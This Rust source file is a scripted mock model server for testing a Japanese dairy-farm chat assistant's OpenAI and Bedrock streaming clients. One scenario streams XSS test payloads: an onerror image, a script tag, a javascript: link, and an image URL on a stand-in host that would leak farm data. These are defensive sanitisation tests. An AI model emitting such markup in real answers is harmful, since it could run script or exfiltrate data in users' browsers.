//! A scripted model server: the model endpoints the assistant talks to, on a loopback port,
//! speaking the providers' real wire formats (OpenAI Chat Completions SSE chunks with tool-call
//! fragments and usage; Bedrock ConverseStream event-stream frames with their CRC-32s) and
//! answering by a script chosen by words in the farmer's question:
//!
//! | in the question | the model |
//! |---|---|
//! | `14番` / `cow 14` | calls `cow_health {"cow":"14"}`, then answers in markdown |
//! | `999番` | calls `cow_health {"cow":"999"}` (an error comes back), then says so |
//! | `unknown-tool` | calls `delete_herd`, then answers |
//! | `talk-to-person` | calls `contact_support`, then answers |
//! | `xss-test` | answers with markup, a script, a `javascript:` link and an image |
//! | `rate-limit` | 429 |
//! | `unavailable` | 503 |
//! | `stall` | one delta, then silence until the client gives up |
//! | `garbage` | a chunk that is not the format |
//! | `slow` | a long answer, a delta every 50 ms for a minute |
//! | `bench:T:R` | `T` tokens at `R` a second, each `⟦µs since the epoch⟧` as it is written |
//! | anything else | a short greeting in three deltas |
//!
//! It records each request's body, and counts the answers a client hung up on (a stop must
//! abort the provider's work). Standard library only, one thread per connection.

use std::{
    io::{BufRead, BufReader, Read, Write},
    net::{SocketAddr, TcpListener, TcpStream},
    sync::{
        Arc, Mutex,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
    thread,
    time::Duration,
};

/// Which provider the server impersonates.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Wire {
    /// `POST …/chat/completions`, SSE.
    OpenAi,
    /// `POST /model/{id}/converse-stream`, event-stream frames.
    Bedrock,
}

/// The markdown answer of the `14番` script, as the model streams it.
pub const HEALTH_ANSWER: &str = "## 14番の様子\n\n乳量は**少し低め**ですが、活動量は正常です。\n\n- 体温を朝夕に測る\n- 飼料の食べ残しを確認\n\n| 項目 | 状態 |\n|---|---|\n| 乳量 | 低め |\n| 活動 | 正常 |\n\n詳しくは <https://example.jp/help> を。";

/// What the `xss-test` script writes: markup, script, a `javascript:` link and an image whose
/// URL would leak data. None of it may become live markup or a fetch.
pub const XSS_ANSWER: &str = "注意:\n\n<img src=x onerror=\"window.__xss=1\">\n\n<script>window.__xss=2</script>\n\n[ここをクリック](javascript:window.__xss=3)\n\n![牛の写真](https://evil.example/leak.png?herd=demo-farm)\n\n[安全なリンク](https://example.jp/safe)";

/// The greeting of the default script.
pub const GREETING: &str = "こんにちは。牧場のことなら何でも聞いてください。";

/// A running scripted model server; stops when dropped.
pub struct ModelServer {
    /// Where it listens.
    pub addr: SocketAddr,
    /// Each request, in order: its request line and headers (lower-case names), a blank
    /// line, its body.
    pub requests: Arc<Mutex<Vec<String>>>,
    /// Answers a client hung up on before they ended.
    pub aborted: Arc<AtomicUsize>,
    /// Answers being written now.
    pub streaming: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
}

impl ModelServer {
    /// Starts a server for `wire` on a free loopback port.
    pub fn start(wire: Wire) -> std::io::Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let addr = listener.local_addr()?;
        let server = Self {
            addr,
            requests: Arc::default(),
            aborted: Arc::default(),
            streaming: Arc::default(),
            stop: Arc::default(),
        };
        let (requests, aborted, streaming, stop) = (
            server.requests.clone(),
            server.aborted.clone(),
            server.streaming.clone(),
            server.stop.clone(),
        );
        thread::spawn(move || {
            for conn in listener.incoming() {
                if stop.load(Ordering::SeqCst) {
                    return;
                }
                let Ok(conn) = conn else { continue };
                let (requests, aborted, streaming) =
                    (requests.clone(), aborted.clone(), streaming.clone());
                thread::spawn(move || {
                    streaming.fetch_add(1, Ordering::SeqCst);
                    if serve(conn, wire, &requests) == Err(Hangup) {
                        aborted.fetch_add(1, Ordering::SeqCst);
                    }
                    streaming.fetch_sub(1, Ordering::SeqCst);
                });
            }
        });
        Ok(server)
    }

    /// The OpenAI-style base URL (`http://127.0.0.1:port/v1`).
    pub fn openai_base(&self) -> String {
        format!("http://{}/v1", self.addr)
    }

    /// The Bedrock endpoint URL (`http://127.0.0.1:port`).
    pub fn endpoint(&self) -> String {
        format!("http://{}", self.addr)
    }

    /// How many requests came.
    pub fn request_count(&self) -> usize {
        self.requests.lock().map(|r| r.len()).unwrap_or(0)
    }
}

impl Drop for ModelServer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        let _ = TcpStream::connect(self.addr);
    }
}

/// The client hung up mid-answer.
#[derive(Debug, PartialEq, Eq)]
struct Hangup;

fn json_string(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// What the model does in one request.
enum Step {
    Status(u16, &'static str),
    Call(&'static str, String),
    Text(Vec<String>, Duration),
    /// This many tokens `⟦µs since the epoch⟧`, each stamped as it is written.
    Stamped(usize, Duration),
    Stall,
    Garbage,
}

/// The script for a request body: the scenario from the question, the round from the tool
/// results already in the conversation.
fn script(body: &str, wire: Wire) -> Step {
    let round = match wire {
        Wire::OpenAi => body.matches("\"role\":\"tool\"").count(),
        Wire::Bedrock => body.matches("\"toolResult\"").count(),
    };
    let pieces = |text: &str, n: usize| -> Vec<String> {
        let chars: Vec<char> = text.chars().collect();
        chars
            .chunks(chars.len().div_ceil(n).max(1))
            .map(|c| c.iter().collect())
            .collect()
    };
    let fast = Duration::from_millis(10);
    if let Some(at) = body.find("bench:") {
        let spec: String = body[at + 6..]
            .chars()
            .take_while(|c| c.is_ascii_digit() || *c == ':')
            .collect();
        let mut it = spec.split(':').filter_map(|n| n.parse::<u64>().ok());
        let (tokens, rate) = (it.next().unwrap_or(100), it.next().unwrap_or(50).max(1));
        return Step::Stamped(tokens as usize, Duration::from_micros(1_000_000 / rate));
    }
    // The newest message decides: of the words the scripts know, the one written last (the
    // conversation's earlier messages come before it in both wire formats).
    let words = [
        "rate-limit",
        "unavailable",
        "stall",
        "garbage",
        "slow",
        "999番",
        "14番",
        "cow 14",
        "unknown-tool",
        "talk-to-person",
        "xss-test",
    ];
    let word = words
        .iter()
        .filter_map(|w| body.rfind(w).map(|at| (at, *w)))
        .max()
        .map(|(_, w)| w);
    let tool = match word {
        Some("rate-limit") => {
            return Step::Status(
                429,
                "{\"error\":{\"message\":\"Rate limit reached\",\"type\":\"rate_limit_exceeded\"}}",
            );
        }
        Some("unavailable") => {
            return Step::Status(
                503,
                "{\"error\":{\"message\":\"The server is overloaded\"}}",
            );
        }
        Some("stall") => return Step::Stall,
        Some("garbage") => return Step::Garbage,
        Some("slow") => {
            let deltas = (0..1200).map(|i| format!("{}。", i % 10)).collect();
            return Step::Text(deltas, Duration::from_millis(50));
        }
        Some("999番") => Some((
            "cow_health",
            "{\"cow\":\"999\"}".to_owned(),
            "999番の牛はこの牧場にいないようです。番号をご確認ください。",
        )),
        Some("14番" | "cow 14") => {
            Some(("cow_health", "{\"cow\":\"14\"}".to_owned(), HEALTH_ANSWER))
        }
        Some("unknown-tool") => Some(("delete_herd", "{}".to_owned(), "その操作はできません。")),
        Some("xss-test") => return Step::Text(pieces(XSS_ANSWER, 7), fast),
        Some(_) => Some((
            "contact_support",
            "{\"summary\":\"14番の咳が続いています。往診を相談したい。\"}".to_owned(),
            "サポート担当者につなげます。下のボタンから送る前に内容を確認できます。",
        )),
        None => None,
    };
    match tool {
        Some((name, args, _)) if round == 0 => Step::Call(name, args),
        Some((_, _, answer)) => Step::Text(pieces(answer, 12), fast),
        None => Step::Text(pieces(GREETING, 3), fast),
    }
}

/// A request: its path, its head (request line and lower-cased headers) and its body.
fn read_request(conn: &mut TcpStream) -> Option<(String, String, String)> {
    let mut reader = BufReader::new(conn.try_clone().ok()?);
    let mut line = String::new();
    reader.read_line(&mut line).ok()?;
    let path = line.split_whitespace().nth(1)?.to_owned();
    let mut head = line.trim_end().to_owned();
    let mut length = 0;
    loop {
        let mut h = String::new();
        reader.read_line(&mut h).ok()?;
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':') {
            head.push_str(&format!("\n{}: {}", k.to_ascii_lowercase(), v.trim()));
            if k.eq_ignore_ascii_case("content-length") {
                length = v.trim().parse().ok()?;
            }
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    Some((path, head, String::from_utf8_lossy(&body).into_owned()))
}

fn serve(mut conn: TcpStream, wire: Wire, requests: &Mutex<Vec<String>>) -> Result<(), Hangup> {
    let Some((path, head, body)) = read_request(&mut conn) else {
        return Ok(());
    };
    if let Ok(mut r) = requests.lock() {
        r.push(format!("{head}\n\n{body}"));
    }
    let expected = match wire {
        Wire::OpenAi => path.ends_with("/chat/completions"),
        Wire::Bedrock => path.starts_with("/model/") && path.ends_with("/converse-stream"),
    };
    if !expected {
        let _ = conn
            .write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
        return Ok(());
    }
    let step = script(&body, wire);
    if let Step::Status(code, json) = step {
        let head = format!(
            "HTTP/1.1 {code} Error\r\ncontent-type: application/json\r\ncontent-length: {}\r\n{}connection: close\r\n\r\n{json}",
            json.len(),
            if code == 429 {
                "x-amzn-errortype: ThrottlingException:http://internal.amazon.com/coral/com.amazon.bedrock/\r\n"
            } else {
                ""
            }
        );
        let _ = conn.write_all(head.as_bytes());
        return Ok(());
    }
    let content_type = match wire {
        Wire::OpenAi => "text/event-stream",
        Wire::Bedrock => "application/vnd.amazon.eventstream",
    };
    let head =
        format!("HTTP/1.1 200 OK\r\ncontent-type: {content_type}\r\nconnection: close\r\n\r\n");
    let _ = conn.set_nodelay(true);
    let mut w = Writer {
        conn: &mut conn,
        wire,
    };
    w.raw(head.as_bytes())?;
    match step {
        Step::Status(..) => {}
        Step::Garbage => match wire {
            Wire::OpenAi => w.raw(
                b"data: {\"choices\":[{\"delta\":{\"content\":\"ok\"}}]}\n\ndata: {not json\n\n",
            )?,
            Wire::Bedrock => w.raw(&[0, 0, 0, 40, 0, 0, 0, 0, 1, 2, 3, 4])?,
        },
        Step::Stall => {
            w.text("考えています")?;
            // Silence: the client's idle timeout must end it. Notice the hang-up.
            let mut buf = [0u8; 1];
            let _ = w.conn.set_read_timeout(Some(Duration::from_secs(120)));
            let _ = w.conn.read(&mut buf);
            return Err(Hangup);
        }
        Step::Call(name, args) => {
            w.call(name, &args)?;
            w.end(true)?;
        }
        Step::Text(deltas, pause) => {
            for d in &deltas {
                w.text(d)?;
                thread::sleep(pause);
            }
            w.end(false)?;
        }
        Step::Stamped(tokens, pause) => {
            let start = std::time::Instant::now();
            for i in 0..tokens {
                let now = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map_or(0, |d| d.as_micros());
                w.text(&format!("⟦{now}⟧"))?;
                // On a schedule, not after each write: the rate holds under load.
                let next = pause * (i as u32 + 1);
                if let Some(wait) = next.checked_sub(start.elapsed()) {
                    thread::sleep(wait);
                }
            }
            w.end(false)?;
        }
    }
    Ok(())
}

struct Writer<'a> {
    conn: &'a mut TcpStream,
    wire: Wire,
}

impl Writer<'_> {
    fn raw(&mut self, bytes: &[u8]) -> Result<(), Hangup> {
        self.conn.write_all(bytes).map_err(|_| Hangup)?;
        self.conn.flush().map_err(|_| Hangup)
    }

    fn sse(&mut self, json: &str) -> Result<(), Hangup> {
        self.raw(format!("data: {json}\n\n").as_bytes())
    }

    fn frame(&mut self, event: &str, json: &str) -> Result<(), Hangup> {
        let bytes = event_frame(event, json);
        self.raw(&bytes)
    }

    fn text(&mut self, delta: &str) -> Result<(), Hangup> {
        let d = json_string(delta);
        match self.wire {
            Wire::OpenAi => self.sse(&format!("{{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":{d}}},\"finish_reason\":null}}]}}")),
            Wire::Bedrock => self.frame("contentBlockDelta", &format!("{{\"contentBlockIndex\":0,\"delta\":{{\"text\":{d}}}}}")),
        }
    }

    fn call(&mut self, name: &str, args: &str) -> Result<(), Hangup> {
        let (a, b) = args.split_at(args.len() / 2);
        match self.wire {
            Wire::OpenAi => {
                self.sse(&format!("{{\"choices\":[{{\"index\":0,\"delta\":{{\"tool_calls\":[{{\"index\":0,\"id\":\"call_1\",\"type\":\"function\",\"function\":{{\"name\":\"{name}\",\"arguments\":\"\"}}}}]}}}}]}}"))?;
                for part in [a, b] {
                    self.sse(&format!("{{\"choices\":[{{\"index\":0,\"delta\":{{\"tool_calls\":[{{\"index\":0,\"function\":{{\"arguments\":{}}}}}]}}}}]}}", json_string(part)))?;
                }
                Ok(())
            }
            Wire::Bedrock => {
                self.frame("contentBlockStart", &format!("{{\"contentBlockIndex\":1,\"start\":{{\"toolUse\":{{\"toolUseId\":\"tooluse_1\",\"name\":\"{name}\"}}}}}}"))?;
                for part in [a, b] {
                    self.frame("contentBlockDelta", &format!("{{\"contentBlockIndex\":1,\"delta\":{{\"toolUse\":{{\"input\":{}}}}}}}", json_string(part)))?;
                }
                self.frame("contentBlockStop", "{\"contentBlockIndex\":1}")
            }
        }
    }

    fn end(&mut self, tool: bool) -> Result<(), Hangup> {
        match self.wire {
            Wire::OpenAi => {
                let reason = if tool { "tool_calls" } else { "stop" };
                self.sse(&format!("{{\"choices\":[{{\"index\":0,\"delta\":{{}},\"finish_reason\":\"{reason}\"}}]}}"))?;
                self.sse(
                    "{\"choices\":[],\"usage\":{\"prompt_tokens\":321,\"completion_tokens\":42}}",
                )?;
                self.raw(b"data: [DONE]\n\n")
            }
            Wire::Bedrock => {
                let reason = if tool { "tool_use" } else { "end_turn" };
                self.frame("messageStop", &format!("{{\"stopReason\":\"{reason}\"}}"))?;
                self.frame("metadata", "{\"usage\":{\"inputTokens\":321,\"outputTokens\":42},\"metrics\":{\"latencyMs\":100}}")
            }
        }
    }
}

/// CRC-32 (IEEE), as the event-stream format checks it.
fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xffff_ffffu32;
    for &b in bytes {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// One event-stream message: `:event-type` `event`, `:message-type` `event`, a JSON payload.
pub fn event_frame(event: &str, json: &str) -> Vec<u8> {
    let mut headers = Vec::new();
    for (name, value) in [
        (":event-type", event),
        (":content-type", "application/json"),
        (":message-type", "event"),
    ] {
        headers.push(name.len() as u8);
        headers.extend_from_slice(name.as_bytes());
        headers.push(7);
        headers.extend_from_slice(&(value.len() as u16).to_be_bytes());
        headers.extend_from_slice(value.as_bytes());
    }
    let total = 12 + headers.len() + json.len() + 4;
    let mut out = Vec::with_capacity(total);
    out.extend_from_slice(&(total as u32).to_be_bytes());
    out.extend_from_slice(&(headers.len() as u32).to_be_bytes());
    let prelude = crc32(&out);
    out.extend_from_slice(&prelude.to_be_bytes());
    out.extend_from_slice(&headers);
    out.extend_from_slice(json.as_bytes());
    let crc = crc32(&out);
    out.extend_from_slice(&crc.to_be_bytes());
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crc32_is_the_ieee_one() {
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
    }

    #[test]
    fn scripts_follow_the_question_and_the_round() {
        assert!(matches!(
            script("{\"content\":\"14番の牛は？\"}", Wire::OpenAi),
            Step::Call("cow_health", _)
        ));
        assert!(matches!(
            script("14番 {\"role\":\"tool\",\"content\":\"{}\"}", Wire::OpenAi),
            Step::Text(..)
        ));
        assert!(matches!(
            script("rate-limit", Wire::Bedrock),
            Step::Status(429, _)
        ));
        let Step::Stamped(tokens, pause) = script("bench:30:50", Wire::OpenAi) else {
            panic!("bench");
        };
        assert_eq!((tokens, pause), (30, Duration::from_millis(20)));
    }
}
